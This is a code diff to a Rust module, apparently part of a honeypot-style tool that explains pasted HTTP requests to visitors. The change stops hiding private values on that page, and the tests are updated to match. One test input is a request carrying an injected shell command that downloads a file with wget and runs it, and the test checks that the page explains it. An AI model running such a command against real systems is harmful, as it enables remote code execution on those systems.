@@ -1,10 +1,11 @@
 //! A request that a visitor gives, explained as one that came.
 //!
 //! In: bytes. Out: the page of a request that says nothing of a source, a time or a number, and the
-//! form that asks for the bytes. Keeps nothing. What may not be shown of a recorded request is not
-//! shown here either.
+//! form that asks for the bytes. Keeps nothing. Blanks nothing: the bytes are the visitor's own,
+//! and blanked parts would tell a visitor who guesses what is hidden.
 
 use std::net::Ipv4Addr;
+use std::sync::Arc;
 
 use bytes::Bytes;
 use forever200_ring::{Ended, Record, Via};
@@ -13,7 +14,10 @@ use minijinja::context;
 use minijinja::value::Serde;
 
 use crate::bytes::pasted::{MAX_BYTES, Unreadable, Writing};
+use crate::page::detail::Detail;
 use crate::page::pages::Pages;
+use crate::reader::locations::Locations;
+use crate::reader::privacy::Privacy;
 use crate::reader::{Describer, Entry};
 
 impl Pages {
@@ -28,9 +32,17 @@ impl Pages {
         writing: Option<Writing>,
         host: &str,
     ) -> anyhow::Result<String> {
-        let entry = entry(bytes, &self.describer);
+        let open = Describer {
+            labeller: Arc::clone(&self.describer.labeller),
+            // Nobody is said to have sent it.
+            locations: Locations::default(),
+            privacy: Privacy::default(),
+        };
+        let entry = entry(bytes, &open);
+        let detail = Detail::new(&entry, host, &open);
         let (layout, in_file, writing) = ("base.html", false, Serde(&writing));
-        self.alone(&entry, host, context! { layout, in_file, writing })
+        let own = context! { layout, in_file, writing };
+        self.alone_as("request.html", &entry, &detail, own)
     }
 
     /// Renders the form, with what was wrong with the input, and the input.
@@ -82,11 +94,8 @@ fn entry(raw: Bytes, describer: &Describer) -> Entry {
 
 #[cfg(test)]
 mod tests {
-    use std::sync::Arc;
-
     use super::*;
     use crate::reader::entry::tests::describer;
-    use crate::reader::privacy::Privacy;
 
     fn page(hidden: &str, raw: &'static [u8]) -> String {
         let describer = describer(Privacy {
@@ -118,24 +127,27 @@ mod tests {
     }
 
     #[test]
-    fn what_is_hidden_is_hidden_here() {
+    fn what_is_hidden_cannot_be_guessed_here() {
         let page = page(
             "203.0.113.99",
             b"GET /?a=203.0.113.99&b=MjAzLjAuMTEzLjk5 HTTP/1.1\r\nHost: 203.0.113.99\r\n\r\n",
         );
-        assert!(page.contains("xxxxxxxxxxxx"), "{page}");
-        assert!(!page.contains("203.0.113.99") && !page.contains("MjAzLjAuMTEzLjk5"));
+        assert!(!page.contains("xxxx"), "{page}");
+        assert!(
+            page.contains("a=203.0.113.99") && page.contains("MjAzLjAuMTEzLjk5"),
+            "{page}"
+        );
     }
 
     #[test]
-    fn a_command_is_told_and_what_is_hidden_is_not_told_by_it() {
+    fn a_command_is_told_whatever_is_hidden() {
         let raw = b"GET /?x=;cd+/tmp;wget+http://203.0.'113'.99/a;sh+a HTTP/1.1\r\n\r\n";
         let told = "203[.]0[.]113[.]99";
-        let open = page("", raw);
-        for part in ["What it would do", "goes to &#x2f;tmp", told, "runs it"] {
-            assert!(open.contains(part), "{part}: {open}");
+        for page in [page("", raw), page("203.0.113.99", raw)] {
+            for part in ["What it would do", "goes to &#x2f;tmp", told, "runs it"] {
+                assert!(page.contains(part), "{part}: {page}");
+            }
         }
-        assert!(!page("203.0.113.99", raw).contains(told));
     }
 
     #[test]
@@ -160,12 +172,12 @@ mod tests {
     }
 
     #[test]
-    fn what_http2_asks_for_is_told_unless_it_is_hidden() {
+    fn what_http2_asks_for_is_told_whatever_is_hidden() {
         let raw = include_bytes!("../bytes/http2/curl.bin");
-        let open = page("", raw);
-        for part in ["GET &#x2f;a?b=c (HTTP&#x2f;2)", "HTTP/2 requests", "x-odd"] {
-            assert!(open.contains(part), "{part}: {open}");
+        for page in [page("", raw), page("/a?b=c", raw)] {
+            for part in ["GET &#x2f;a?b=c (HTTP&#x2f;2)", "HTTP/2 requests", "x-odd"] {
+                assert!(page.contains(part), "{part}: {page}");
+            }
         }
-        assert!(!page("/a?b=c", raw).contains("x-odd"));
     }
 }
